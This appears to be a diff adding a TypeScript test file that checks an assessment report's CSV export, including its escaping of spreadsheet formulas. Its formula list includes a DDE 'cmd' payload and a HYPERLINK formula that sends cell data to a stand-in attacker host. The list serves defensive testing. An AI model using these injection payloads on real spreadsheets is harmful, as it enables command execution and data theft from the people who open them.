@@ -1,0 +1,129 @@
+/** The table of the report: expected bytes for a small content, an independent reader for everything else. */
+import { parse } from 'csv-parse/sync';
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { totalOf } from '../../../src/assessment/answers.ts';
+import type { Instrument } from '../../../src/assessment/instrument.ts';
+import { buildReport } from '../../../src/assessment/scores/report.ts';
+import { reportCsv } from '../../../src/exports/report/report-csv.ts';
+import { anyAnswers, instrument } from '../../assessment/arbitraries.ts';
+import { anyText } from '../../codec/visitors.ts';
+import { smallContent } from '../../content/small.ts';
+
+const csvOf = (given: Instrument, answers: Parameters<typeof buildReport>[1]) =>
+  reportCsv(buildReport(given, answers), given);
+
+/** Strictly RFC 4180, with nothing forgiven. */
+const read = (csv: string): Record<string, string>[] =>
+  parse(csv, { bom: true, columns: true, record_delimiter: '\r\n' });
+
+describe('the table', () => {
+  it('is this, byte for byte', () => {
+    const content = smallContent({
+      'principles/5/5.4.md': (text) => text.replace('of 5.4.', 'of \\"5.4\\", ö.'),
+    });
+    const answers = new Map([
+      ['12.1', { me: 3, us: 1 }],
+      ['2.3', { me: 0, us: 0 }],
+      ['5.4', { me: 3, us: 3 }],
+      ['2.1', { me: 'not-applicable', us: 2 }],
+      ['12.3', { me: 'not-applicable', us: 'not-applicable' }],
+    ] as const);
+    expect(csvOf(content.instrument, answers)).toBe(
+      [
+        '\ufeffquestion,principle,item,principle title,statement,key,competency,tier,level,demand,me,us,total,gap,standing,answered',
+        '12.1,12,1,Principle 12,Statement of 12.1.,no,SPEED,tier ground,,demand 1,3,1,4,-2,middle,yes',
+        '2.3,2,3,Principle 2,Statement of 2.3.,no,,tier floor,level warm,,0,0,0,0,low,yes',
+        '5.4,5,4,Principle 5,"Statement of ""5.4"", ö.",yes,SPEED,tier roof,,,3,3,6,0,strength,yes',
+        '2.1,2,1,Principle 2,Statement of 2.1.,yes,CARE,tier ground,level warm,,not applicable,2,4,,middle,yes',
+        '12.3,12,3,Principle 12,Statement of 12.3.,yes,SPEED,tier floor,,demand 2,not applicable,not applicable,,,,yes',
+        '2.2,2,2,Principle 2,Statement of 2.2.,yes,CARE,tier roof,level warm,,,,,,,no',
+        '5.1,5,1,Principle 5,Statement of 5.1.,no,CARE,tier ground,,,,,,,,no',
+        '5.2,5,2,Principle 5,Statement of 5.2.,no,,tier floor,level warm,,,,,,,no',
+        '2.5,2,5,Principle 2,Statement of 2.5.,no,,tier roof,,demand 3,,,,,,no',
+        '12.2,12,2,Principle 12,Statement of 12.2.,no,,tier ground,level warm,,,,,,,no',
+        '2.4,2,4,Principle 2,Statement of 2.4.,no,,tier floor,,,,,,,,no',
+        '5.3,5,3,Principle 5,Statement of 5.3.,no,,tier roof,level warm,,,,,,,no',
+        '',
+      ].join('\r\n'),
+    );
+  });
+
+  it('says of every question what was answered, and never a nought for what was not', () => {
+    fc.assert(
+      fc.property(anyAnswers(), (answers) => {
+        const rows = read(csvOf(instrument, answers));
+        expect(rows.map(({ question }) => question)).toEqual(instrument.questions.map(({ id }) => id));
+        for (const { question = '', me, us, total, gap, answered } of rows) {
+          const answer = answers.get(question);
+          const rating = (response: unknown) =>
+            response === 'not-applicable' ? 'not applicable' : String(response ?? '');
+          const both = typeof answer?.me === 'number' && typeof answer.us === 'number';
+          expect({ me, us, total, gap, answered }).toEqual({
+            me: rating(answer?.me),
+            us: rating(answer?.us),
+            total: answer ? String(totalOf(answer) ?? '') : '',
+            gap: both ? String(Number(answer.us) - Number(answer.me)) : '',
+            answered: answer ? 'yes' : 'no',
+          });
+        }
+      }),
+      { numRuns: 30 },
+    );
+  });
+
+  it('gives whole numbers for the two halves of every id, so that no two rows look alike', () => {
+    const rows = read(csvOf(instrument, new Map()));
+    expect(rows.map(({ principle, item }) => `${principle}.${item}`)).toEqual(
+      instrument.questions.map(({ id }) => id),
+    );
+  });
+});
+
+/** What an organisation's own wording could be, by accident or not. */
+const formulas = [
+  '=1+1',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+  '+1+1',
+  '-1+1',
+  '-2',
+  '@SUM(1,1)',
+  '\t=1+1',
+  '\r=1+1',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(1)',
+];
+
+const withWords = (words: string): Instrument => ({
+  ...instrument,
+  questions: instrument.questions.map((question) => ({ ...question, statement: words, level: words })),
+  principles: instrument.principles.map((principle) => ({ ...principle, title: words })),
+});
+
+describe('a text that a spreadsheet would run', () => {
+  it.each(formulas)('%j is kept as a text', (formula) => {
+    const [row] = read(csvOf(withWords(formula), new Map([['1.1', { me: 3, us: 1 }]])));
+    expect(row).toMatchObject({
+      'principle title': `'${formula}`,
+      statement: `'${formula}`,
+      level: `'${formula}`,
+      gap: '-2',
+    });
+  });
+
+  it('leaves every cell that begins like a formula a plain number, and every other text as it was', () => {
+    fc.assert(
+      fc.property(fc.oneof(anyText, fc.constantFrom(...formulas)), anyAnswers(), (words, answers) => {
+        const whole = words.toWellFormed();
+        const rows = read(Buffer.from(csvOf(withWords(whole), answers)).toString());
+        for (const cell of rows.flatMap((row) => Object.values(row)))
+          if (/^[=+\-@\t\r＝＋－＠]/.test(cell)) expect(cell).toMatch(/^-[1-3]$/);
+        for (const { statement = '' } of rows) expect([whole, `'${whole}`]).toContain(statement);
+      }),
+      { numRuns: 100 },
+    );
+  });
+});
